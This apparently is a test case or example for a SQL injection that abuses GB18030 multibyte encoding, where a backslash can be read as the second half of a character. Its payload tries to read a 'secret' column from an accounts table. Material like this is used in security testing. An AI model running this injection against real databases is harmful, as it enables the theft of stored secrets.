-- Speaks GB18030, in which a backslash can be the second half of a letter.
-- wants: read
-- attack:
SET client_encoding = 'GB18030';
-- together
SELECT E'本\', secret FROM vlt_account --'
